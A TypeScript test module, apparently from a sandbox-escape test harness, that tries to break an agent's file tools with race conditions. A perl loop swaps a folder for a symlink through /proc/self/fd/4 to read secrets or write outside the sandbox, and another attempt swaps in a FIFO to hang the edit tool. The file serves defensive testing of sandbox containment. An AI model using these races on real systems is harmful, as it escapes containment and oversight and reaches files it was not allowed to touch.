// Swapping a folder for a link while whoever works on files is between looking and opening.
import { existsSync } from "node:fs";
import type { Attempt } from "./attempt.ts";
import type { EscapeWorld } from "./world.ts";

const EXCHANGE_CALL = process.arch === "arm64" ? 276 : 316;
const TRIES = 120;

/** From what the runner holds open of the machine up to its root, and from there to what a command cannot see. */
function wayOut(world: EscapeWorld): string {
  const isInPod = world.answererPid === 1;
  return `${isInPod ? `/proc/self/fd/4${"/..".repeat(40)}` : ""}${world.outside("")}`;
}

/** A wait that nothing ends. */
const STUCK_MS = 10_000;

function exchange(one: string, other: string): string {
  const loop = `$a = "${one}"; $b = "${other}"; while (1) { syscall(${EXCHANGE_CALL}, -100, $a, -100, $b, 2); select(undef, undef, undef, 0.0002) }`;
  return `setsid -f perl -e '${loop}' > /dev/null 2>&1; sleep 0.2`;
}

async function startSwapping(world: EscapeWorld): Promise<void> {
  await world.run(
    `mkdir folder; echo inner > folder/secret; ln -s '${wayOut(world)}' link; ${exchange("folder", "link")}`,
  );
}

const BY_DESCRIPTOR = "files are reached through held folders everywhere";

/** Attempts by races. */
export const swaps: readonly Attempt[] = [
  {
    name: "swaps folders so that a file of the machine is read",
    moot: () => BY_DESCRIPTOR,
    async run(world) {
      await startSwapping(world);
      for (let tries = 0; tries < TRIES; tries++) {
        const { output } = await world.bench.perform("read", { file_path: "folder/secret" });
        if (output.includes(world.secret)) return true;
      }
      return false;
    },
  },
  {
    name: "swaps folders so that a file of the machine is searched",
    moot: () => BY_DESCRIPTOR,
    async run(world) {
      await startSwapping(world);
      for (let tries = 0; tries < TRIES; tries++) {
        for (const path of ["folder/secret", "folder", "."]) {
          const { output } = await world.bench.perform("grep", { pattern: ".", path });
          if (output.includes(world.secret)) return true;
        }
      }
      return false;
    },
  },
  {
    name: "swaps folders so that a file is written on the machine",
    moot: () => BY_DESCRIPTOR,
    async run(world) {
      await startSwapping(world);
      for (let tries = 0; tries < TRIES; tries++) {
        await world.bench.perform("write", { file_path: "folder/owned", content: `${tries}\n` });
        if (existsSync(world.outside("owned"))) return true;
      }
      return false;
    },
  },
  {
    name: "swaps a file for a pipe, so that whoever works on files waits for ever",
    moot: () => "files are looked at in the same way everywhere",
    async run({ bench }) {
      await bench.run(`echo x > file; mkfifo pipe; ${exchange("file", "pipe")}`);
      for (let tries = 0; tries < TRIES; tries++) {
        const input = { file_path: "file", old_string: "x", new_string: "y" };
        const answer = bench.sandbox.prepare("edit", input, AbortSignal.timeout(STUCK_MS));
        const isStuck = await answer.then(
          () => false,
          (error: unknown) => error instanceof DOMException,
        );
        if (isStuck) return true;
      }
      return false;
    },
  },
];
